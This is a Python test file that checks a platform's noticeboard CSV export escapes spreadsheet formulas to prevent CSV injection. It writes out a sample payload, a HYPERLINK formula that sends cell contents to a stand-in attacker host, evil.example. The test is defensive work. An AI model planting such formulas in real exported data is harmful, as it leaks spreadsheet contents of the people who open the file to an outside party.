"""CSV files served over HTTP cannot smuggle spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

NOTICEBOARD = "/v1/communities/home/modules/noticeboard"


async def test_an_exported_notice_titled_with_a_formula_is_shown_as_text(start_platform):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Water off: new rota")'
    async with start_platform() as running:
        http = running.client
        enabled = await http.put(
            NOTICEBOARD, json={"enabled": True}, headers=running.auth("operator")
        )
        assert enabled.status_code == 200, enabled.text
        posted = await http.post(
            f"{NOTICEBOARD}/post-notice", json={"title": formula}, headers=running.auth("leader")
        )
        assert posted.status_code == 200, posted.text
        exported = await http.get(f"{NOTICEBOARD}/export-notices", headers=running.auth("operator"))
        assert exported.status_code == 200, exported.text
        assert exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert rows[1][0] == str(posted.json()["id"])
        assert rows[1][1] == "'" + formula  # a spreadsheet shows it; it does not run it
